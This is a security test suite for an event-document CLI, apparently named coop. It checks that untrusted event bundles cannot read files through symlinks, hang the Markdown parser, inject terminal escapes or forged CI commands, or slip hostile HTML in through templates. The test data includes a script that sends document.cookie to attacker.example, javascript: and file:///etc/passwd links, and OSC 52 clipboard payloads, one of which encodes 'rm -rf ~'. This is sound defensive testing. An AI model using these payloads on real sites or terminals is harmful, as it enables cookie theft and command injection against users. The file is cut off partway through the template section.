/**
 * Untrusted event bundles (issue #13): each finding of the second attack, as the attacker
 * wrote it, with the rule and place coop must give. Every bundle is made in a temporary
 * folder: an event, its CSV, its minutes, sometimes its templates, and a "secret" outside the
 * project that no output and no message may ever contain.
 *
 * Findings and where they are tested: 1 symlinked files (templates, partials, style.css, CSV,
 * the event itself), 3 spreads and nesting, 4 pathological Markdown, 5 attendee limit,
 * 6 output collisions, 7/17 temporary files, 8 XMP, 9/10 terminal and CI-log injection,
 * 11 untrusted templates, 12 watch after atomic saves, 13 check = build, 14 well-formed JSON,
 * 15 years, 16 I/O errors, 18 the smaller items. Finding 2 (PDF layout) is the PDF engine's.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { main } from '../src/cli/main.js';
import { Capture, loadAwareSeconds, run } from './helpers.js';
import { readSyntax } from './pdf-read.js';

const repo = path.join(import.meta.dirname, '..');
const STACK = /\n\s+at /;
const SECRET = 'SECRET_TOKEN_8c1f2e';

const temps: string[] = [];
afterAll(() => {
  for (const d of temps) rmSync(d, { recursive: true, force: true });
});

/** A bundle: `files` written under DIR/project, a secret file in DIR/outside. */
function bundle(files: Record<string, string | Buffer>): { root: string; project: string; outside: string; secret: string } {
  const root = mkdtempSync(path.join(tmpdir(), 'coop-sec-'));
  temps.push(root);
  const project = path.join(root, 'project');
  const outside = path.join(root, 'outside');
  mkdirSync(project);
  mkdirSync(outside);
  const secret = path.join(outside, 'secret.txt');
  writeFileSync(secret, `${SECRET}\nAWS_SECRET_ACCESS_KEY=${SECRET}\n`);
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(project, name)), { recursive: true });
    writeFileSync(path.join(project, name), content);
  }
  return { root, project, outside, secret };
}

const DAYS =
  'days:\n  - date: 2016-05-19\n    sessions:\n      - title: Matin\n        start: "9h"\n        end: "12h"\n        items:\n          - { title: Ouverture, duration: 30min }\n';
const EVENT = `event: { title: Séminaire }\n${DAYS}`;

/**
 * Every file under `dir`, with its text (binary files as latin1), for "the secret is nowhere"
 * checks; a PDF's dictionaries are deflated in object streams, so its objects are added as read
 * back (annotations' addresses, the Info dictionary).
 */
function everything(dir: string): string {
  if (!existsSync(dir)) return '';
  let all = '';
  for (const e of readdirSync(dir, { withFileTypes: true, recursive: true })) {
    if (!e.isFile()) continue;
    const bytes = readFileSync(path.join(e.parentPath, e.name));
    all += bytes.toString('latin1');
    if (e.name.endsWith('.pdf')) all += readSyntax(bytes).text;
  }
  return all;
}

function expectNoCrash(r: { stdout: string; stderr: string }): void {
  expect(r.stdout + r.stderr, 'a stack trace was printed').not.toMatch(STACK);
  expect(r.stderr).not.toContain('internal error');
}

interface JsonDiagnostic {
  file: string;
  line: number;
  column: number;
  severity: string;
  rule: string;
  message: string;
}

async function checkJson(file: string, cwd: string, env: NodeJS.ProcessEnv = {}) {
  const r = await run(['check', '--format', 'json', file], cwd, env);
  expectNoCrash(r);
  const report = JSON.parse(r.stdout) as { diagnostics: JsonDiagnostic[] };
  return { ...r, diagnostics: report.diagnostics };
}

const errorsOf = (d: JsonDiagnostic[]) => d.filter((x) => x.severity === 'error');

/** Link annotations of every page of a PDF: their URI actions. */
async function pdfLinks(bytes: Uint8Array): Promise<string[]> {
  const doc = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise;
  const out: string[] = [];
  for (let i = 1; i <= doc.numPages; i++) {
    for (const a of await (await doc.getPage(i)).getAnnotations()) {
      if (a.subtype === 'Link') out.push(String(a.url ?? a.unsafeUrl ?? a.dest ?? ''));
    }
  }
  await doc.destroy();
  return out;
}

// ---------------------------------------------------------------------------------------
// 1. Files read through symbolic links

describe('1. every file coop reads stays inside the project (realpath), in check as in build', () => {
  const cases: Array<[string, string]> = [
    ['style.css', 'tpl/style.css'],
    ['a document template', 'tpl/programme/programme.hbs'],
    ['a partial', 'tpl/partials/item.hbs'],
    ['the page layout', 'tpl/layout.hbs'],
  ];
  for (const [what, link] of cases) {
    it(`a symlinked ${what} is ref/outside-project, and the secret reaches no output and no message`, async () => {
      const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, 'tpl/README.txt': 'modèles' });
      mkdirSync(path.dirname(path.join(b.project, link)), { recursive: true });
      symlinkSync(b.secret, path.join(b.project, link));
      const checked = await checkJson('event.yaml', b.project);
      expect(checked.code).toBe(1);
      const e = errorsOf(checked.diagnostics);
      expect(e.map((d) => d.rule)).toEqual(['ref/outside-project']);
      expect(e[0].file).toBe(link);
      expect(checked.stdout).not.toContain(SECRET);
      const built = await run(['build', 'event.yaml', '-o', 'out'], b.project);
      expectNoCrash(built);
      expect(built.code).toBe(1);
      expect(built.stderr).toContain('ref/outside-project');
      expect(built.stdout + built.stderr).not.toContain(SECRET);
      expect(existsSync(path.join(b.project, 'out')) ? readdirSync(path.join(b.project, 'out')) : []).toEqual([]);
      // --draft does not render with a file it refused either
      const draft = await run(['build', 'event.yaml', '-o', 'out', '--draft'], b.project);
      expect(draft.code).toBe(1);
      expect(everything(path.join(b.project, 'out'))).not.toContain(SECRET);
    });
  }

  it('--templates with a symlinked file is refused the same way', async () => {
    const b = bundle({ 'event.yaml': EVENT });
    mkdirSync(path.join(b.project, 'tpl'));
    symlinkSync(b.secret, path.join(b.project, 'tpl', 'style.css'));
    const built = await run(['build', 'event.yaml', '-o', 'out', '--templates', 'tpl'], b.project);
    expect(built.code).toBe(1);
    expect(built.stderr).toContain('ref/outside-project');
    expect(everything(path.join(b.project, 'out')) + built.stdout + built.stderr).not.toContain(SECRET);
  });

  it('a partials folder that is a link out of the project is refused', async () => {
    const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}` });
    mkdirSync(path.join(b.project, 'tpl'));
    writeFileSync(path.join(b.outside, 'item.hbs'), SECRET);
    symlinkSync(b.outside, path.join(b.project, 'tpl', 'partials'));
    const checked = await checkJson('event.yaml', b.project);
    expect(errorsOf(checked.diagnostics).map((d) => d.rule)).toEqual(['ref/outside-project']);
  });

  it('a link inside the project is fine; a FIFO or a device is refused without blocking', async () => {
    const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, 'shared/style.css': 'h1 { color: #123456; }' });
    mkdirSync(path.join(b.project, 'tpl'));
    symlinkSync(path.join(b.project, 'shared', 'style.css'), path.join(b.project, 'tpl', 'style.css'));
    const ok = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.html'], b.project);
    expect(ok.code, ok.stderr).toBe(0);
    expect(readFileSync(path.join(b.project, 'out', 'programme.html'), 'utf8')).toContain('#123456');
    rmSync(path.join(b.project, 'tpl', 'style.css'));
    execFileSync('mkfifo', [path.join(b.project, 'tpl', 'style.css')]);
    const t0 = Date.now();
    const fifo = await checkJson('event.yaml', b.project);
    expect(Date.now() - t0).toBeLessThan(loadAwareSeconds(5) * 1000);
    expect(errorsOf(fifo.diagnostics).map((d) => d.rule)).toEqual(['ref/unknown']);
    expect(errorsOf(fifo.diagnostics)[0].message).toContain('pas un fichier ordinaire');
  });

  it('an attendee CSV, a minutes file or the event itself linked out of the project', async () => {
    const b = bundle({ 'event.yaml': `event: { title: Séminaire }\nattendees:\n  - file: liste.csv\n${DAYS}` });
    writeFileSync(path.join(b.outside, 'liste.csv'), `Nom;Prénom\n${SECRET};Jean\n`);
    symlinkSync(path.join(b.outside, 'liste.csv'), path.join(b.project, 'liste.csv'));
    const csv = await checkJson('event.yaml', b.project);
    expect(errorsOf(csv.diagnostics).map((d) => [d.rule, d.line, d.column])).toEqual([['ref/outside-project', 3, 11]]);
    expect(csv.stdout).not.toContain(SECRET);

    writeFileSync(path.join(b.outside, 'event.yaml'), `event: { title: "${SECRET}" }\n${DAYS}`);
    symlinkSync(path.join(b.outside, 'event.yaml'), path.join(b.project, 'lien.yaml'));
    const linked = await checkJson('lien.yaml', b.project);
    expect(linked.code).toBe(1);
    expect(errorsOf(linked.diagnostics).map((d) => [d.rule, d.file, d.line])).toEqual([['ref/outside-project', 'lien.yaml', 1]]);
    expect(linked.stdout).not.toContain(SECRET);
    const text = await run(['check', 'lien.yaml'], b.project);
    expect(text.stdout).not.toContain(SECRET);
  });
});

// ---------------------------------------------------------------------------------------
// 13. check finds what build refuses

describe('13. check finds everything that would make build fail', () => {
  it('a templates: folder outside the project, or missing, is an error of check, at `templates:`', async () => {
    const b = bundle({ 'event.yaml': `templates: ../outside\n${EVENT}` });
    const outside = await checkJson('event.yaml', b.project);
    expect(errorsOf(outside.diagnostics).map((d) => [d.rule, d.line, d.column])).toEqual([['ref/outside-project', 1, 12]]);
    writeFileSync(path.join(b.project, 'event.yaml'), `templates: modeles\n${EVENT}`);
    const missing = await checkJson('event.yaml', b.project);
    expect(errorsOf(missing.diagnostics).map((d) => [d.rule, d.line, d.column])).toEqual([['ref/unknown', 1, 12]]);
  });

  it('a user template with a misspelled field fails check, at its line', async () => {
    const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, 'tpl/partials/item.hbs': '<div class="item">\n<p>{{titel}}</p>\n</div>\n' });
    const checked = await checkJson('event.yaml', b.project);
    expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.file, d.line])).toEqual([['template/invalid', 'tpl/partials/item.hbs', 2]]);
    const built = await run(['build', 'event.yaml', '-o', 'out'], b.project);
    expect(built.code).toBe(1);
  });

  it('two minutes files with the same name are an error of check, not a crash of build', async () => {
    const minutes = '---\ntitle: Compte rendu\ndate: 2016-05-19\n---\n\nTexte.\n';
    const b = bundle({ 'event.yaml': `event: { title: Séminaire }\nminutes: ["a/*.md", "b/*.md"]\n${DAYS}`, 'a/cr.md': minutes, 'b/cr.md': minutes });
    const checked = await checkJson('event.yaml', b.project);
    expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.file, d.line, d.column])).toEqual([['output/collision', 'event.yaml', 2, 21]]);
    const built = await run(['build', 'event.yaml', '-o', 'out'], b.project);
    expectNoCrash(built);
    expect(built.code).toBe(1);
    expect(existsSync(path.join(b.project, 'out'))).toBe(false);
  });

  it('deep blockquotes in a description are an error of check, in the event file (not coop’s programme.hbs:1:1)', async () => {
    const b = bundle({ 'event.yaml': `event:\n  title: Séminaire\n  description: |\n    Intro.\n\n    ${'>'.repeat(2000)} fin\n${DAYS}` });
    const checked = await checkJson('event.yaml', b.project);
    expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.file, d.line, d.column])).toEqual([['syntax/markdown', 'event.yaml', 6, 5]]);
    const built = await run(['build', 'event.yaml', '-o', 'out', '--draft'], b.project);
    expectNoCrash(built);
    expect(built.stderr).not.toContain('programme.hbs');
  });
});

// ---------------------------------------------------------------------------------------
// 6. Output names

describe('6. minutes outputs never overwrite the event’s documents', () => {
  for (const name of ['programme.md', 'badges.md', 'Emargement.md', 'schedule.md']) {
    it(`minutes named ${name}: output/collision at the minutes: entry, nothing written`, async () => {
      const b = bundle({
        'event.yaml': `event: { title: Séminaire }\nminutes: [minutes/*.md]\n${DAYS}`,
        [`minutes/${name}`]: '---\ntitle: Compte rendu\ndate: 2016-05-19\n---\n\nTexte.\n',
      });
      const checked = await checkJson('event.yaml', b.project);
      expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.file, d.line, d.column])).toEqual([['output/collision', 'event.yaml', 2, 11]]);
      expect(errorsOf(checked.diagnostics)[0].message).toContain(name);
      const built = await run(['build', 'event.yaml', '-o', 'out', '--draft'], b.project);
      expectNoCrash(built);
      expect(built.code).toBe(1);
      expect(existsSync(path.join(b.project, 'out'))).toBe(false);
    });
  }

  it('minutes given on the command line: placed at the file, and the note says how to fix it', async () => {
    const b = bundle({ 'programme.md': '---\ntitle: Compte rendu\ndate: 2016-05-19\n---\n\nTexte.\n' });
    const checked = await checkJson('programme.md', b.project);
    const e = errorsOf(checked.diagnostics);
    expect(e.map((d) => [d.rule, d.file, d.line, d.column])).toEqual([['output/collision', 'programme.md', 1, 1]]);
    // The fix the message suggests makes the error go away.
    renameSync(path.join(b.project, 'programme.md'), path.join(b.project, 'cr-programme.md'));
    expect((await checkJson('cr-programme.md', b.project)).code).toBe(0);
  });
});

// ---------------------------------------------------------------------------------------
// 3. Stack overflows: spreads and nesting

describe('3. nothing spreads an unbounded array; Markdown nesting is bounded like YAML', () => {
  it('no `push(...x)`, `unshift(...x)` or `Math.min/max(...x)` in coop’s sources (outside the PDF engine, issue #14)', () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const e of readdirSync(dir, { withFileTypes: true })) {
        const f = path.join(dir, e.name);
        if (e.isDirectory()) {
          if (path.relative(repo, f) !== path.join('src', 'render', 'pdf')) walk(f);
        } else if (f.endsWith('.ts')) {
          readFileSync(f, 'utf8')
            .split('\n')
            .forEach((line, i) => {
              if (
                /\.(push|unshift)\(\s*\.\.\.|Math\.(min|max)\(\s*\.\.\.|fromCharCode\(\s*\.\.\.|fromCodePoint\(\s*\.\.\./.test(line) &&
                !/^\s*(\*|\/\/)/.test(line)
              ) {
                offenders.push(`${path.relative(repo, f)}:${i + 1}: ${line.trim()}`);
              }
            });
        }
      }
    };
    walk(path.join(repo, 'src'));
    expect(offenders).toEqual([]);
  });

  it('minOf, maxOf and append take 300,000 values', async () => {
    const { append, maxOf, minOf } = await import('../src/util/arrays.js');
    const big = Array.from({ length: 300_000 }, (_, i) => i);
    expect(minOf(big)).toBe(0);
    expect(maxOf(big)).toBe(299_999);
    expect(append([-1], big).length).toBe(300_001);
  });

  const minutes = (body: string) => `---\ntitle: Compte rendu\ndate: 2016-05-19\n---\n\n${body}\n`;
  const limits: Array<[string, string, number, number]> = [
    // name, body, line, column (the front matter takes lines 1–4, the body starts on line 6)
    ['2,000 nested > (2 KB)', `${'>'.repeat(2000)} citation`, 6, 1],
    ['10,000 nested list items on one line', `${'- '.repeat(10_000)}point`, 6, 1],
    // refused before parsing, where the indentation passes 128 columns (item 66)
    ['2,000 list items nested by indentation', Array.from({ length: 2000 }, (_, i) => `${'  '.repeat(i)}- point ${i}`).join('\n'), 6 + 65, 1],
    // nested 33 deep at 2 columns a level: measured on the parsed tree
    ['33 list items nested by indentation', Array.from({ length: 33 }, (_, i) => `${'  '.repeat(i)}- point ${i}`).join('\n'), 6 + 32, 65],
    ['33 nested quotes, one per line', Array.from({ length: 33 }, (_, i) => `${'> '.repeat(i + 1)}niveau ${i + 1}`).join('\n'), 6 + 32, 1],
  ];
  for (const [name, body, line, column] of limits) {
    it(`${name}: syntax/markdown at ${line}:${column}, in check and in build, quickly`, async () => {
      const b = bundle({ 'cr.md': minutes(body) });
      const t0 = performance.now();
      const checked = await checkJson('cr.md', b.project);
      expect(performance.now() - t0).toBeLessThan(loadAwareSeconds(3) * 1000);
      expect(checked.code).toBe(1);
      expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.line, d.column])).toEqual([['syntax/markdown', line, column]]);
      const built = await run(['build', 'cr.md', '-o', 'out', '--draft'], b.project);
      expectNoCrash(built);
      expect(built.code).toBe(1);
      expect(existsSync(path.join(b.project, 'out'))).toBe(false);
    });
  }

  it('32 nested quotes are fine (the limit is documented as 32)', async () => {
    const b = bundle({ 'cr.md': minutes(Array.from({ length: 32 }, (_, i) => `${'> '.repeat(i + 1)}niveau ${i + 1}`).join('\n')) });
    const checked = await checkJson('cr.md', b.project);
    expect(errorsOf(checked.diagnostics)).toEqual([]);
    const built = await run(['build', 'cr.md', '-o', 'out'], b.project);
    expect(built.code, built.stderr).toBe(0);
  });
});

// ---------------------------------------------------------------------------------------
// 4. Pathological Markdown

describe('4. pathological Markdown is refused in bounded time, with its place', () => {
  const minutes = (body: string) => `---\ntitle: Compte rendu\ndate: 2016-05-19\n---\n\n${body}\n`;
  const cases: Array<[string, string, number, number]> = [
    ['`*a` x 50,000 (49 s before)', '*a'.repeat(50_000), 6, 2001],
    // the 20,001st cell
    ['a 100,000-column table (21 s and 2.6 GB before)', `|${'a|'.repeat(100_000)}\n|${'-|'.repeat(100_000)}`, 6, 40_001],
    // 400 references to a 100 KB address: the 10th passes 1,000,000 characters
    ['a link-reference bomb (60 s and 3.4 GB before)', `[x]: http://example.org/${'a'.repeat(100_000)}\n\n${'[x] '.repeat(400)}`, 8, 37],
    // the 1,001st marker of the paragraph
    ['`[x]` x 50,000 references', `[x]: http://a\n\n${'[x]'.repeat(50_000)}`, 8, 1501],
  ];
  for (const [name, body, line, column] of cases) {
    it(`${name}: syntax/markdown at ${line}:${column} in under 3 s`, async () => {
      const b = bundle({ 'cr.md': minutes(body) });
      const t0 = performance.now();
      const checked = await checkJson('cr.md', b.project);
      const ms = performance.now() - t0;
      expect(ms).toBeLessThan(loadAwareSeconds(3) * 1000);
      expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.line, d.column])).toEqual([['syntax/markdown', line, column]]);
    });
  }

  it('the same limits hold in an event’s descriptions, placed in the YAML block', async () => {
    const b = bundle({ 'event.yaml': `event:\n  title: Séminaire\n  description: |\n    Intro.\n\n    ${'*a'.repeat(600)}\n    ${'*a'.repeat(600)}\n${DAYS}` });
    const checked = await checkJson('event.yaml', b.project);
    expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.line, d.column])).toEqual([['syntax/markdown', 7, 5 + 2 * 400]]);
  });

  it('a template that renders an unscanned field as Markdown meets the same limits (template/invalid, not a hang)', async () => {
    const title = '*a'.repeat(5000);
    const b = bundle({
      'event.yaml': `templates: tpl\nevent: { title: "${title}" }\n${DAYS}`,
      'tpl/partials/item.hbs': '<div>{{markdown @root.event.title}}</div>\n',
    });
    const t0 = performance.now();
    const checked = await checkJson('event.yaml', b.project);
    expect(performance.now() - t0).toBeLessThan(loadAwareSeconds(5) * 1000);
    expect(errorsOf(checked.diagnostics).map((d) => d.rule)).toEqual(['template/invalid']);
  });
});

// ---------------------------------------------------------------------------------------
// 5. Attendees

describe('5. attendees beyond the documented limit are refused up front, with their place', () => {
  it('a CSV row past COOP_MAX_ATTENDEES: syntax/size at that row', async () => {
    const rows = Array.from({ length: 60 }, (_, i) => `PERSONNE${i};Anne${String.fromCharCode(97 + (i % 26))}${i}`).join('\n');
    const b = bundle({ 'event.yaml': `event: { title: Séminaire }\nattendees:\n  - file: liste.csv\n${DAYS}`, 'liste.csv': `Nom;Prénom\n${rows}\n` });
    const checked = await checkJson('event.yaml', b.project, { COOP_MAX_ATTENDEES: '50' });
    expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.file, d.line])).toEqual([['syntax/size', 'liste.csv', 52]]);
    expect(errorsOf(checked.diagnostics)[0].message).toContain('COOP_MAX_ATTENDEES');
    const ok = await checkJson('event.yaml', b.project, { COOP_MAX_ATTENDEES: '60' });
    expect(errorsOf(ok.diagnostics)).toEqual([]);
  });

  it('the default limit is 10,000', async () => {
    const { maxAttendees } = await import('../src/attendees/load.js');
    expect(maxAttendees({})).toBe(10_000);
    expect(maxAttendees({ COOP_MAX_ATTENDEES: '200000' })).toBe(200_000);
  });
});

// ---------------------------------------------------------------------------------------
// 7 and 17. Temporary files

describe('7/17. temporary files: exclusive, unpredictable, cleaned up, stale ones removed', () => {
  it('a symbolic link planted where the old predictable temporary file went is not followed', async () => {
    const b = bundle({ 'event.yaml': EVENT });
    const out = path.join(b.project, 'out');
    mkdirSync(out);
    const victim = path.join(b.outside, 'victim.txt');
    writeFileSync(victim, 'intact');
    // The name the previous code used, with the pid of this (in-process) build.
    symlinkSync(victim, path.join(out, `.programme.html.${process.pid}.tmp`));
    const built = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.html'], b.project);
    expect(built.code, built.stderr).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('intact');
    expect(readFileSync(path.join(out, 'programme.html'), 'utf8')).toContain('Séminaire');
    // Temporary files are coop's (.coop-PID-RANDOM.tmp) and none is left behind.
    expect(readdirSync(out).filter((f) => f.startsWith('.coop-'))).toEqual([]);
  });

  it('the next build removes the temporary files a killed build left, and only those', async () => {
    const b = bundle({ 'event.yaml': EVENT });
    const out = path.join(b.project, 'out');
    mkdirSync(out);
    const victim = path.join(b.outside, 'victim.txt');
    writeFileSync(victim, 'intact');
    const dead = 2_147_483_646; // no such process
    writeFileSync(path.join(out, `.coop-${dead}-0123456789abcdef.tmp`), 'half a PDF');
    symlinkSync(victim, path.join(out, `.coop-${dead}-fedcba9876543210.tmp`));
    // a running build's file (this process), fresh: kept; the same, a day old: removed
    writeFileSync(path.join(out, `.coop-${process.pid}-00000000000000aa.tmp`), 'in progress');
    writeFileSync(path.join(out, `.coop-${process.pid}-00000000000000bb.tmp`), 'forgotten');
    const old = (Date.now() - 25 * 3600 * 1000) / 1000;
    utimesSync(path.join(out, `.coop-${process.pid}-00000000000000bb.tmp`), old, old);
    writeFileSync(path.join(out, '.coop-notes.tmp'), 'not coop’s naming');
    writeFileSync(path.join(out, 'rapport.pdf'), 'the user’s');
    const built = await run(['build', 'event.yaml', '-o', 'out', '--only', 'event.ics'], b.project);
    expect(built.code, built.stderr).toBe(0);
    expect(readdirSync(out).sort()).toEqual([`.coop-${process.pid}-00000000000000aa.tmp`, '.coop-notes.tmp', 'event.ics', 'rapport.pdf']);
    expect(readFileSync(victim, 'utf8')).toBe('intact');
  });
});

// ---------------------------------------------------------------------------------------
// 16. I/O errors

describe('16. I/O errors say what happened and where (exit 2), never "a bug in coop"', () => {
  it('an output path that is a file', async () => {
    const b = bundle({ 'event.yaml': EVENT, 'out.txt': 'a file' });
    const r = await run(['build', 'event.yaml', '-o', 'out.txt'], b.project);
    expectNoCrash(r);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('out.txt');
    expect(r.stderr).toContain('cannot write into out.txt: it is a file, not a folder');
    expect(r.stderr).not.toContain('bug in coop');
    const nested = await run(['build', 'event.yaml', '-o', 'out.txt/sous-dossier'], b.project);
    expect(nested.code).toBe(2);
    expect(nested.stderr).toContain('ENOTDIR');
  });

  it('an output name taken by a folder: nothing replaced, no temporary file left', async () => {
    const b = bundle({ 'event.yaml': EVENT });
    mkdirSync(path.join(b.project, 'out', 'programme.pdf'), { recursive: true });
    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.html,programme.pdf'], b.project);
    expectNoCrash(r);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('out/programme.pdf');
    expect(readdirSync(path.join(b.project, 'out')).filter((f) => f.startsWith('.coop-'))).toEqual([]);
  });

  it('init onto a file', async () => {
    const b = bundle({ 'fichier.txt': 'a file' });
    const r = await run(['init', 'fichier.txt'], b.project);
    expectNoCrash(r);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('fichier.txt is a file');
  });
});

// ---------------------------------------------------------------------------------------
// 8. XMP

describe('8. the XMP metadata is escaped', () => {
  it('a title with & and crafted markup stays the title, valid XML, no forged property', async () => {
    const title = 'Eau & assainissement </rdf:li></rdf:Alt></dc:title><dc:rights>forged</dc:rights><dc:title><rdf:Alt><rdf:li>';
    const b = bundle({
      'event.yaml': `event: { title: ${JSON.stringify(title)} }\norganisations: { o: { name: "A & B <c>" } }\n${DAYS.replace('days:', 'days:')}`.replace(
        'event: {',
        'event: { organisers: [o],',
      ),
    });
    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.pdf'], b.project);
    expect(r.code, r.stderr).toBe(0);
    const bytes = readFileSync(path.join(b.project, 'out', 'programme.pdf'));
    const raw = bytes.toString('latin1');
    const xmp = raw.slice(raw.indexOf('<x:xmpmeta'), raw.indexOf('</x:xmpmeta>') + 12);
    expect(xmp).toContain('Eau &amp; assainissement &lt;/rdf:li&gt;');
    expect(xmp).not.toContain('<dc:rights>');
    const doc = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise;
    const meta = await doc.getMetadata();
    await doc.destroy();
    expect(meta.metadata?.get('dc:title')).toBe(title);
    expect(meta.metadata?.get('dc:rights')).toBeFalsy();
    expect((meta.info as { Title?: string }).Title).toBe(title);
    expect((meta.info as { Author?: string }).Author).toBe('A & B <c>');
  });
});

// ---------------------------------------------------------------------------------------
// 9 and 10. Workflow commands and terminal escapes

/** Control characters a terminal acts on (coop prints no colour when the stream is not a TTY). */
const RAW_CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;

describe('9/10. nothing from the input acts on a terminal or starts a line of a CI log', () => {
  const ESC = '\u001b';
  const hostile = {
    // YAML escapes: OSC 52 (clipboard), a window title, a screen clear, a bell, a forged workflow command
    'event.yaml': [
      'event:',
      '  title: "Séminaire\\e]52;c;cm0gLXJmIH4=\\a\\e]0;pwned\\a\\e[2J\\n::error file=event.yaml,line=1::Forged"',
      'people:',
      '  x: { name: "Jean\\e[31m DUPONT", role: "\\x07Maire\\n::warning::Forged" }',
      'attendees:',
      '  - file: liste.csv',
      'minutes: [minutes/*.md]',
      'days:',
      '  - date: 2016-05-19',
      '    sessions:',
      '      - title: "Matin\\r::error::Forged"',
      '        start: "9h"',
      '        end: "12h"',
      '        chair: [x]',
      '        items:',
      '          - { title: "Exposé\\e[8m", duration: 10min }',
      '          - { title: "Exposé\\e[8m", duration: 10min }',
    ].join('\n'),
    'liste.csv': Buffer.from(`Nom;Prénom;Courriel\nDUPONT${ESC}]52;c;eA==${'\u0007'};Anne;pas-une-adresse${ESC}[2J\n`, 'utf8'),
  };
  const minutesName = `cr\n::error file=x::Forged${ESC}]0;t${'\u0007'}.md`;
  const minutesText = `---\ntitle: "CR\\e[2J"\ndate: 2016-05-19\n---\n\n# Point${ESC}[31m rouge\n\n- [ ] Action sans responsable${ESC}]52;c;eA==${'\u0007'}\n`;

  function expectInert(text: string, what: string): void {
    expect(text, `${what}: a raw control character`).not.toMatch(RAW_CONTROL);
    for (const line of text.split('\n')) {
      expect(line.startsWith('::'), `${what}: a line starts with "::": ${line}`).toBe(false);
    }
  }

  it('check (text), build, actions and model outputs are inert; the controls show as \\x1b', async () => {
    const b = bundle(hostile);
    mkdirSync(path.join(b.project, 'minutes'));
    writeFileSync(path.join(b.project, 'minutes', minutesName), minutesText);
    const checked = await run(['check', 'event.yaml'], b.project);
    expectNoCrash(checked);
    expectInert(checked.stdout + checked.stderr, 'check');
    expect(checked.stdout).toContain('\\x1b]52;c;');
    expect(checked.stdout).toContain('cr\\n::error file=x::Forged');
    expect(checked.stdout).toContain('syntax/control-character');
    const built = await run(['build', 'event.yaml', '-o', 'out', '--draft'], b.project);
    expectNoCrash(built);
    expectInert(built.stdout + built.stderr, 'build');
    expect(built.stdout).toContain('écrit : out/cr\\n::error file=x::Forged\\x1b]0;t\\x07.html');
    const actions = await run(['actions', 'event.yaml', '--today', '2016-06-01'], b.project);
    expectInert(actions.stdout + actions.stderr, 'actions');
    const model = await run(['model', 'event.yaml'], b.project);
    expectInert(model.stderr, 'model');
    // The documents carry no control character either (HTML forbids them; a PDF shows boxes).
    for (const f of readdirSync(path.join(b.project, 'out')).filter((n) => n.endsWith('.html'))) {
      expect(readFileSync(path.join(b.project, 'out', f), 'utf8'), f).not.toMatch(RAW_CONTROL);
    }
    expect(readFileSync(path.join(b.project, 'out', 'schedule.json'), 'utf8')).not.toMatch(/\\u001b|\\u0007/);
  });

  it('--format github escapes line breaks and controls: one command per diagnostic, none forged', async () => {
    const b = bundle(hostile);
    const r = await run(['check', '--format', 'github', 'event.yaml'], b.project);
    expectNoCrash(r);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    const lines = r.stdout.trimEnd().split('\n');
    const json = await checkJson('event.yaml', b.project);
    expect(lines.length).toBe(json.diagnostics.length + 1);
    for (const l of lines.slice(0, -1)) expect(l).toMatch(/^::(error|warning|notice) file=event\.yaml|^::(error|warning|notice) file=liste\.csv/);
  });

  it('a progress line names a minutes file inertly', async () => {
    const { progressLine } = await import('../src/cli/progress.js');
    const stderr = new Capture();
    stderr.isTTY = true;
    let now = 0;
    const line = progressLine({ stdout: new Capture(), stderr, cwd: '/', env: {} }, false, () => now);
    now = 5000;
    line.progress({ output: `cr${ESC}]52;c;eA==\u0007.pdf`, page: 3 });
    // coop's own sequences (carriage return, erase line) only
    expect(stderr.text.replace(/\r\u001b\[2K/g, '')).not.toMatch(RAW_CONTROL);
    expect(stderr.text).toContain('cr\\x1b]52;c;eA==\\x07.pdf, page 3');
  });
});

// ---------------------------------------------------------------------------------------
// 11. Templates chosen by the event

describe('11. templates chosen by the event are sanitised and bounded', () => {
  const evil = [
    '<h1>{{event.title}}</h1>',
    '<script>fetch("https://attacker.example/?c=" + document.cookie)</script>',
    '<p onclick="alert(1)" style="background:url(https://tracker.example/bg.png)">texte</p>',
    '<a href="javascript:alert(1)">js</a> <a href="file:///etc/passwd">file</a> <a href="smb://attacker.example/share">smb</a>',
    '<a href="../../etc/passwd">rel</a> <a href="//attacker.example/x">proto</a> <a href="https://example.org/ok">ok</a> <a href="mailto:a@example.org">mail</a>',
    '<img src="https://tracker.example/pixel.png" alt="pixel"> <img src="data:image/png;base64,AAAA" alt="data">',
    '<iframe src="https://attacker.example"></iframe><object data="x.swf"></object><form action="https://attacker.example"><input name="q"></form>',
    '<svg><script>alert(1)</script></svg><style>body{background:url(https://tracker.example/s.png)}</style>',
    '{{markdown event.description}}',
  ].join('\n');
  const files = {
    'event.yaml': `templates: tpl\nevent:\n  title: Séminaire\n  description: "[rel](../../etc/passwd) [proto](//attacker.example/x) [js](javascript:alert(1)) ![pixel](https://tracker.example/md.png) [ok](https://example.org/md)"\n${DAYS}`,
    'tpl/programme/programme.hbs': evil,
    'tpl/layout.hbs':
